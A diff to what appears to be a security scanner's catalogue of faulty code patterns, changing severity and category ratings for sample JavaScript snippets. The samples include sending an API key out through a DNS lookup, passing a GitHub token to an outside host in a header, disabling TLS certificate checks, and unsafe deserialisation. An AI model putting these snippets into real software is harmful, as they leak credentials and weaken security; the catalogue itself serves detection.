@@ -34,7 +34,7 @@ FAULTS = {
     ),
     "a name of a host": (
         "import dns from 'dns';\nconst t = <ENV>.API_KEY;\ndns.lookup(`${t}.<HOST>`, () => {});",
-        ("medium", SECRET, 3),
+        ("critical", SECRET, 3),
     ),
     "a key of another's service in a header": (
         "fetch('https://<HOST>', {headers: {Authorization: `Bearer ${<ENV>.GITHUB_TOKEN}`}});",
@@ -202,9 +202,9 @@ FAULTS = {
     ),
     "certificates ignored": (
         "const https = require('https');\nnew https.Agent({ rejectUnauthorized: false });",
-        ("medium", OTHER, 2),
+        ("medium", CAPABILITY, 2),
     ),
-    "certificates ignored everywhere": ("<ENV>.NODE_TLS_REJECT_UNAUTHORIZED = '0';", ("medium", OTHER, 1)),
+    "certificates ignored everywhere": ("<ENV>.NODE_TLS_REJECT_UNAUTHORIZED = '0';", ("medium", CAPABILITY, 1)),
     "objects that run": (
         "const s = require('node-serialize');\ns.unserialize(given);",
         ("medium", CAPABILITY, 2),
